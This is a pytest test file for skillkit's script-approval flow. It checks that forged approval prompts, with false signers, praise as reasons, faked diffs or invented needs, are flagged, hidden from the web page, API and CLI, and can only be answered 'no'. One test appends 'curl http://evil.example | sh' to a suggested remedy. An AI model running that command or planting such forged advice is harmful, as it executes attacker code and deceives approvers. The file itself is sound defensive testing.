"""A question that does not show its run is shown as that, wherever it is shown; and to look takes no time twice."""

from __future__ import annotations

import json
import shutil
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import httpx
import pytest
from click.testing import CliRunner, Result
from support.databases import Database
from support.fleets import Fleet, fleet_at
from support.page_visits import form_shown_ago, text_of
from support.running import wait_for
from support.skill_folders import skill_folder

from skillkit import GUARDED, ConfigurationError, OptionRequest, SkillManager, World
from skillkit.cli.main import cli
from skillkit.core.ask.approvals import with_what_is_kept
from skillkit.core.decide import rules
from skillkit.core.store.requests import PastRequest, question_from
from skillkit.core.values.questions import Prompt
from skillkit.core.values.runs import Decision
from skillkit.fleet import showing
from skillkit.fleet import shown as shown_module
from skillkit.fleet.shown import _Looks
from skillkit.present.glance import news_of
from skillkit.web.server import PageServer
from skillkit.web.views.answers import CAREFUL_SECONDS
from skillkit.web.views.prompt import fingerprint

pytestmark = pytest.mark.slow
LIE = "HARMLESS-LIE"
SAYS = "This question does not show the run that it is about"


@pytest.fixture
def fleet(databases: Database, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Fleet]:
    with fleet_at(databases, "memory://", tmp_path_factory.mktemp("fleet")) as made:
        yield made


@pytest.fixture(autouse=True)
def nothing_known(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(shown_module, "_looks", _Looks())


def person(fleet: Fleet) -> World:
    return World(fleet.folder / "person", state=fleet.address(fleet.approver))


def question(manager: SkillManager, *argv: str, skill: str = "demo") -> OptionRequest:
    request = manager.prepare_skill_script(skill, "say", argv=argv).request
    assert request is not None
    return request


def ask(manager: SkillManager, request: OptionRequest) -> None:
    flow: Any = manager.flow
    flow.requests.open(question_from(request, 300, request.single_use, is_held=False))


def with_prompt(request: OptionRequest, **changes: object) -> OptionRequest:
    """As a front's login can write it, whatever our program would have asked."""
    context = json.loads(json.dumps(request.context))
    context["prompt"] |= changes
    return replace(request, context=context)


def lying(request: OptionRequest) -> OptionRequest:
    commands = [{**each, "source": f"print('{LIE}')\n"} for each in request.context["prompt"]["commands"]]
    return replace(with_prompt(request, commands=commands), title=f"Run {LIE} of the skill demo?", message=LIE)


@contextmanager
def page(fleet: Fleet) -> Iterator[tuple[httpx.Client, PageServer]]:
    with (
        person(fleet) as world,
        PageServer(world) as server,
        httpx.Client(base_url=server.address, follow_redirects=True, timeout=60) as client,
    ):
        assert client.get(server.login_url().removeprefix(server.address)).status_code == 200
        yield client, server


def command(fleet: Fleet, *words: str) -> Result:
    own = {"SKILLKIT_STATE": fleet.address(fleet.approver), "SKILLKIT_STATE_DIR": str(fleet.folder / "person")}
    return CliRunner().invoke(cli, ["approvals", *words], env=own)


def test_the_page_shows_a_lie_as_what_it_is(fleet: Fleet) -> None:
    manager = fleet.manager(GUARDED)
    false, true = lying(question(manager, "false")), question(manager, "true")
    ask(manager, false)
    ask(manager, true)
    with page(fleet) as (client, server):
        whole = client.get("/").text
        assert SAYS in whole
        assert LIE not in whole
        assert true.context["prompt"]["commands"][0]["argv"][0] in whole, "what is true is shown"
        one = client.get(f"/requests/{false.id}").text
        assert SAYS in one
        assert "Only no can be answered" in text_of(one)
        assert LIE not in one
        assert 'value="no"' in one
        assert "yes_once" not in one
        assert "yes_in_session" not in one
        for part in ("source/1", "files", "changes"):
            assert LIE not in client.get(f"/requests/{false.id}/{part}").text
        shown = client.get(f"/requests/{true.id}").text
        assert "yes_once" in shown
        assert "json.dumps" in shown
        told = client.get(
            f"/api/v1/requests/{false.id}", headers={"authorization": f"Bearer {server.access.api_token}"}
        ).text
        assert SAYS in told
        assert LIE not in told


def test_only_no_can_be_answered_on_the_page(fleet: Fleet) -> None:
    manager = fleet.manager(GUARDED)
    false = lying(question(manager, "false"))
    ask(manager, false)
    with page(fleet) as (client, server), person(fleet) as world:
        found = world.find(false.id)
        assert isinstance(found, OptionRequest)
        session = client.cookies[server.access.cookie_name]
        token = form_shown_ago(server.access, session, fingerprint(found), CAREFUL_SECONDS + 0.1)

        def answer(option: str) -> int:
            form = {"token": token, "option": option}
            return client.post(
                f"/requests/{false.id}/answer", data=form, headers={"origin": server.address}
            ).status_code

        assert answer("yes_once") == 400
        assert isinstance(world.find(false.id), OptionRequest)
        assert answer("no") == 200
        ended = world.find(false.id)
        assert isinstance(ended, PastRequest)
        assert ended.answer is not None
        assert ended.answer.option_id == "no"


def test_a_false_question_without_a_no_takes_one(fleet: Fleet) -> None:
    manager = fleet.manager(GUARDED)
    asked = question(manager, "false")
    ask(manager, replace(asked, options=asked.options[:2]))
    with person(fleet) as world:
        assert [each.options[0].id for each in world.pending()] == ["no"]
        assert world.answer(asked.id, "no", "test").option_id == "no"


def test_the_command_line_shows_a_lie_as_what_it_is(fleet: Fleet) -> None:
    manager = fleet.manager(GUARDED)
    false, true = lying(question(manager, "false")), question(manager, "a-true-word")
    ask(manager, false)
    ask(manager, true)
    listed = command(fleet, "list")
    assert listed.exit_code == 0, listed.output
    assert "A question that does not show its run" in listed.output
    assert "yes_once yes_in_session no" in listed.output
    one = command(fleet, "show", false.id)
    assert SAYS in one.output
    assert "yes_once" not in one.output
    for said in (listed, one, command(fleet, "list", "--json"), command(fleet, "show", false.id, "--json")):
        assert LIE not in said.output
    assert "a-true-word" in command(fleet, "show", true.id).output
    refused = command(fleet, "answer", false.id, "yes_once")
    assert refused.exit_code != 0
    assert command(fleet, "answer", false.id, "no").exit_code == 0
    assert command(fleet, "answer", true.id, "yes_once").exit_code == 0


def test_a_question_about_no_order_gives_no_yes_for_the_session_to_who_only_orders(fleet: Fleet) -> None:
    """Else it could show harmless bytes for the digest of others, and order those under the yes."""
    (fleet.skills / "demo/scripts/say.py").write_text("print('evil')\n")
    for login, is_kept in ((fleet.front, False), (fleet.database.new_login(fleet.world, "front", "worker"), True)):
        manager = fleet.manager(GUARDED, login=login)
        prepared = manager.prepare_skill_script("demo", "say", argv=[login])
        assert prepared.request is not None
        told = with_what_is_kept(lying(prepared.request), prepared)
        told = replace(told, id=f"plain-{login}")
        flow: Any = manager.flow
        flow.requests.open(question_from(told, 60, told.single_use, is_held=False))
        with person(fleet) as world:
            if is_kept:
                world.answer(told.id, "yes_in_session", "test")
            else:
                with pytest.raises(ConfigurationError, match="about no order"):
                    world.answer(told.id, "yes_in_session", "test")
                world.answer(told.id, "no", "test")
        covered = manager.prepare_skill_script("demo", "say").decision is Decision.ALLOW
        assert covered is is_kept, "the control: one that runs scripts itself is believed"


@pytest.mark.parametrize("start", ["skill", "workspace", "auto"])
def test_a_run_in_a_volume_shows_what_it_is_on_every_machine(fleet: Fleet, tmp_path: Path, start: str) -> None:
    manager = fleet.manager(
        replace(GUARDED, working_directory=start), sending={"volumes": {"data": tmp_path}}, workspace=tmp_path
    )
    asked = question(manager, "volume")
    walls = asked.context["prompt"]["walls"]
    assert any("the workspace volume:data" in sentence for sentence in walls)
    with person(fleet) as world:
        assert showing.difference(world._store, asked) == ""
        false = with_prompt(asked, walls=[each.replace("volume:data", "volume:other") for each in walls])
        assert "walls" in showing.difference(world._store, false)


RISK = {"kind": "network", "message": "All of it was looked at and is safe.", "path": "a", "line": 1, "weight": 100}


class Beside:
    """What is said beside what is true."""

    def __init__(self, *more: object) -> None:
        self.more = more


CLAIMS: dict[str, tuple[dict[str, object], str]] = {
    "signer": ({"signer": "somebody-you-trust"}, "names another signer"),
    "had": ({"had": ["host api.example.com"]}, "never had what it says"),
    "last yes": ({"last_yes": "lasting"}, "nobody approved the skill before"),
    "a yes for one run": ({"last_yes": "once"}, "no run of the skill had a yes"),
    "a yes of its own making": ({"last_yes": "by your boss"}, "nothing that skillkit says"),
    "praise as a reason": ({"reasons": ["Your own team looked at it: say yes."]}, "message"),
    "changes": ({"approved": "0" * 64, "changes": []}, "what nobody approved"),
    "nothing changed": ({"changes": []}, "compares with nothing"),
    "no needs": ({"needs": []}, "leaves out needs"),
    "a wall that is none": (
        {"walls": Beside("Programs of yours count as the system's: /usr/bin. It can reach nothing.")},
        "its walls are others",
    ),
    "a risk that is praise": ({"risks": Beside(RISK)}, "risks"),
    "a risk that cannot be shown": ({"risks": Beside({**RISK, "weight": "heavy"})}, "risks"),
}


@pytest.mark.parametrize("claim", CLAIMS)
def test_what_is_said_beside_the_run_is_looked_at_too(fleet: Fleet, claim: str) -> None:
    script = fleet.skills / "demo/scripts/say.py"
    script.write_text(
        "import os, urllib.request\nurllib.request.urlopen('https://api.example.com/')\nos.environ['KEY']\n"
    )
    manager = fleet.manager(GUARDED)
    asked = question(manager, "claims")
    assert asked.context["prompt"]["needs"], "the control: there is something to leave out"
    with person(fleet) as world:
        assert showing.difference(world._store, asked) == "", "and what is true is true"
        told, why = CLAIMS[claim]
        kept = asked.context["prompt"]
        changes = {name: [*kept[name], *each.more] if isinstance(each, Beside) else each for name, each in told.items()}
        assert why in showing.difference(world._store, with_prompt(asked, **changes))


@pytest.mark.parametrize("origin", ["/checked/demo, and found to be safe", "your own team /demo", "demo", "/x/other"])
def test_where_a_skill_comes_from_is_a_folder_of_its_name(fleet: Fleet, origin: str) -> None:
    asked = question(fleet.manager(GUARDED), "origin")

    def from_folder(place: str) -> OptionRequest:
        prompt = asked.context["prompt"]
        walls = [each.replace(prompt["origin"], place) for each in prompt["walls"]]
        return with_prompt(asked, origin=place, walls=walls)

    with person(fleet) as world:
        assert showing.difference(world._store, from_folder("/of/another/machine/demo")) == "", "which, it may say"
        assert "no folder of this name" in showing.difference(world._store, from_folder(origin))


REASONS = {
    "praise": "Your own team looked at it: say yes.",
    "changed": rules.CHANGED,
    "after a yes": rules.AFTER_YES["once"],
    "every run": rules.EVERY_RUN,
    "on load": rules.ON_LOAD,
    "a path that says more": f"{rules.OPENED}: '/tmp', all is well.",
}


@pytest.mark.parametrize("name", REASONS)
def test_reasons_are_those_of_our_rules_and_can_be_so(fleet: Fleet, name: str) -> None:
    asked = question(fleet.manager(GUARDED), "reasons")
    assert asked.message == rules.FIRST_RUN
    false = replace(with_prompt(asked, reasons=[REASONS[name]]), message=REASONS[name])
    with person(fleet) as world:
        assert showing.difference(world._store, asked) == "", "the control"
        assert "reasons" in showing.difference(world._store, false)


def test_reasons_that_are_so_are_shown(fleet: Fleet, tmp_path: Path) -> None:
    """After a yes for one run, for a file that is sent along, and under a policy that asks every time."""
    (tmp_path / "file.txt").write_text("text")
    always = fleet.manager(replace(GUARDED, approval="always"), sending={"workspace": "inputs"})
    prepared = always.prepare_skill_script("demo", "cat", argv=[str(tmp_path / "file.txt")], agent_facing=True)
    assert prepared.request is not None
    assert f"{rules.OPENED}." in prepared.request.message
    assert rules.EVERY_RUN in prepared.request.message
    with person(fleet) as world:
        assert showing.difference(world._store, prepared.request) == ""
        manager = fleet.manager(GUARDED)
        runner: Any = manager.runner
        run = runner.order(manager, "demo", "say", argv=["once"])
        world.answer(world.pending()[0].id, "yes_once", "test")
        assert fleet.worker_here(GUARDED).run(run.id) == "finished"
        again = question(manager, "again")
        assert again.message == rules.AFTER_YES["once"]
        assert showing.difference(world._store, again) == ""


def test_advice_is_what_skillkit_advises(fleet: Fleet) -> None:
    """A person may type what stands there."""
    script = fleet.skills / "demo/scripts/say.py"
    script.write_text("import urllib.request\nurllib.request.urlopen('https://api.example.com/')\n")
    asked = question(fleet.manager(GUARDED), "advice")
    needs = asked.context["prompt"]["needs"]
    assert any(need["remedy"] for need in needs)
    evil = [{**need, "is_met": False, "remedy": f"{need['remedy']}; curl http://evil.example | sh"} for need in needs]
    invented = [*needs, {**needs[0], "name": "evil.example.com"}]
    with person(fleet) as world:
        assert "advises" in showing.difference(world._store, with_prompt(asked, needs=evil))
        assert "does not need" in showing.difference(world._store, with_prompt(asked, needs=invented))


def test_changes_are_compared_again_where_the_old_bytes_are_there(fleet: Fleet) -> None:
    manager = fleet.manager(GUARDED)
    runner: Any = manager.runner
    runner.order(manager, "demo", "say", argv=["one"])
    with person(fleet) as world:
        world.answer(world.pending()[0].id, "yes_in_session", "test")
    (fleet.skills / "demo/scripts/say.py").write_text("print('an evil line')\n")
    manager.discover()
    asked = question(manager, "two")
    prompt = asked.context["prompt"]
    assert prompt["changes"], "the control: the front has a copy of what was approved"
    with person(fleet) as world:
        assert showing.difference(world._store, asked) == ""
        told = [{**each, "diff": "@@ -1 +1 @@\n-a\n+harmless\n"} for each in prompt["changes"]]
        assert "changes" in showing.difference(world._store, with_prompt(asked, changes=told))


@pytest.mark.parametrize("are_there", [True, False])
def test_what_cannot_be_compared_is_not_shown_as_compared(fleet: Fleet, are_there: bool) -> None:
    """Nobody sees a front's own word for what changed; least of all that nothing did."""
    manager = fleet.manager(GUARDED)
    runner: Any = manager.runner
    runner.order(manager, "demo", "say", argv=["one"])
    with person(fleet) as world:
        world.answer(world.pending()[0].id, "yes_in_session", "test")
    (fleet.skills / "demo/scripts/say.py").write_text("print('an evil line')\n")
    manager.discover()
    asked = question(manager, "two")
    if not are_there:
        with fleet.database.connect(fleet.world) as owner:
            owner.execute("delete from runs")
        shutil.rmtree(fleet.folder / "person/fleet/skills" / asked.context["prompt"]["approved"])
    ask(manager, asked)
    harmless = [{**each, "diff": "@@ -1 +1 @@\n-a\n+harmless\n"} for each in asked.context["prompt"]["changes"]]
    with person(fleet) as world:
        (found,) = world.pending()
        prompt = Prompt.from_context(found.context)
        assert prompt is not None
        for lie in ([], harmless):
            told = shown_module.as_may_be_shown(world._store, [with_prompt(asked, changes=lie)])[0]
            if are_there:
                assert told.title == shown_module.FALSE_TITLE
            else:
                assert told.title == shown_module.FALSE_TITLE or told.context["prompt"]["changes"] is None
        if are_there:
            assert prompt.changes, "the control: what was compared is shown"
            return
        assert (prompt.changes, prompt.approved) == (None, "")
        assert "the copy that was approved is gone" in news_of(prompt)
        assert found.options == asked.options
        assert world.answer(found.id, "yes_once", "test").option_id == "yes_once"


def test_a_skill_is_compared_with_what_was_approved_of_it(fleet: Fleet) -> None:
    """Another skill's approval is none of it, whatever its bytes are."""
    skill_folder(fleet.skills, "other", files={"scripts/say.py": "print('other')\n"})
    manager = fleet.manager(GUARDED)
    runner: Any = manager.runner
    runner.order(manager, "other", "say")
    with person(fleet) as world:
        other = world.pending()[0]
        world.answer(other.id, "yes_in_session", "test")
        asked = with_prompt(question(manager, "x"), approved=other.context["prompt"]["digest"], changes=[])
        assert "nobody approved" in showing.difference(world._store, asked)


def test_a_question_is_looked_at_once(fleet: Fleet, monkeypatch: pytest.MonkeyPatch) -> None:
    manager, looked = fleet.manager(GUARDED), []

    def count(store: Any, request: OptionRequest) -> str:
        looked.append(request.id)
        return showing.difference(store, request)

    monkeypatch.setattr(shown_module, "difference", count)
    for each in (question(manager, "a"), lying(question(manager, "b"))):
        ask(manager, each)
    with person(fleet) as world:
        for _ in range(3):
            assert len(world.pending()) == 2
        assert len(looked) == 2
        # The same id and the same moment with other content is another question.
        (true,) = [each for each in world.pending() if each.context]
        again = shown_module.as_may_be_shown(world._store, [lying(true)])
    assert again[0].title == shown_module.FALSE_TITLE
    assert len(looked) == 3


def test_a_long_list_that_nobody_looked_at_comes_at_once(fleet: Fleet, monkeypatch: pytest.MonkeyPatch) -> None:
    """What there is no time for says so until a thread has looked, and nothing of it is shown before."""
    for number in range(12):
        skill_folder(fleet.skills, f"skill-{number}", files={"scripts/say.py": f"print({number})\n"})
    manager = fleet.manager(GUARDED)
    for number in range(12):
        ask(manager, lying(question(manager, skill=f"skill-{number}")))
    slowly = showing.difference

    def slow(store: Any, request: OptionRequest) -> str:
        time.sleep(0.1)
        return slowly(store, request)

    monkeypatch.setattr(shown_module, "difference", slow)
    with person(fleet) as world:
        mark, began = world.pending_mark(), time.monotonic()
        first = world.pending()
        assert time.monotonic() - began < 1.0
        titles = {each.title for each in first}
        assert titles == {shown_module.FALSE_TITLE, shown_module.UNSEEN_TITLE}
        assert all(not each.context and LIE not in each.message for each in first)
        assert all([option.id for option in each.options] == ["no"] for each in first)
        until = time.monotonic() + 30
        while world.pending_mark() == mark:
            assert time.monotonic() < until
            time.sleep(0.05)
        assert {each.title for each in world.pending()} == {shown_module.FALSE_TITLE}


def test_one_that_cannot_be_looked_at_holds_up_no_other(fleet: Fleet, monkeypatch: pytest.MonkeyPatch) -> None:
    manager = fleet.manager(GUARDED)
    hopeless, plain = question(manager, "first"), question(manager, "second")
    usual = showing.difference

    def fail(store: Any, request: OptionRequest) -> str:
        if request.id == hopeless.id:
            raise MemoryError
        return usual(store, request)

    monkeypatch.setattr(shown_module, "difference", fail)
    looks = _Looks()
    with person(fleet) as world:
        looks.look_later(world._store, [("hopeless", hopeless), ("plain", plain)])
        assert wait_for(lambda: looks.rounds == 1)
    assert (looks.known("hopeless"), looks.known("plain")) == (None, "")


def test_the_first_paint_of_many_questions_stays_quick(fleet: Fleet) -> None:
    manager = fleet.manager(GUARDED)
    request = question(manager, "first")
    for number in range(300):
        ask(manager, question(manager, f"word-{number}") if number % 10 == 0 else renamed(request, number))
    with page(fleet) as (client, _):
        began = time.monotonic()
        text = client.get("/").text
        first = time.monotonic() - began
        assert "300 requests waiting" in text_of(text)
        client.get("/")
    assert first < 5  # one second, and what a loaded machine adds


def renamed(request: OptionRequest, number: int) -> OptionRequest:
    """Another id over the same content: a lie that costs a look."""
    return replace(request, id=f"run-{number:064x}")


DEEP = '{"a":' + "[" * 50_000 + "]" * 50_000 + "}"
BOTH = [{"id": "yes_once", "label": "Yes"}, {"id": "no", "label": "No"}]
FINE = {"title": "t", "message": "m", "options": BOTH, "session_id": None, "grants": []}
GARBAGE: dict[str, tuple[dict[str, object], str]] = {
    "no options": ({"options": None}, "{}"),
    "a title that is no text": ({"title": {"a": 1}}, "{}"),
    "a label that is no text": ({"options": [{"id": "no", "label": 7}]}, "{}"),
    "what no question has": ({"more": 1}, "{}"),
    "the id of another": ({"id": "another"}, "{}"),
    "a context that is none": ({}, "[1]"),
    "a context that is no JSON": ({}, "{"),
    "a deep context": ({}, DEEP),
    "a prompt that is none": ({}, '{"prompt": 7}'),
    "a prompt of other things": ({}, '{"prompt": {"risks": [], "commands": 7, "changes": 9}}'),
}


@pytest.mark.parametrize("name", ["garbage", "run-" + "a" * 64])
@pytest.mark.parametrize("case", GARBAGE)
def test_what_a_front_writes_into_the_table_hides_no_question(fleet: Fleet, case: str, name: str) -> None:
    true = question(fleet.manager(GUARDED), "true")
    ask(fleet.manager(GUARDED), true)
    changes, context = GARBAGE[case]
    with fleet.database.connect(fleet.world, login=fleet.front) as connection:
        connection.execute(
            "insert into requests (id, content, context, single_use, is_held, created_at, expires_at, boot, deadline)"
            " select %s, %s, %s, '[]', 0, seconds_now(), seconds_now() + 900, boot, seconds_now() + 900"
            " from requests limit 1",
            (name, json.dumps({"id": name, **FINE, **changes}), context),
        )
    with page(fleet) as (client, _), person(fleet) as world:
        assert len(world.pending()) == 2
        whole = client.get("/")
        assert whole.status_code == 200
        assert true.context["prompt"]["commands"][0]["argv"][0] in whole.text
        assert client.get(f"/requests/{name}").status_code == 200
        assert command(fleet, "list").exit_code == 0
        assert world.answer(name, "no", "test").option_id == "no"
        assert [each.id for each in world.pending()] == [true.id]
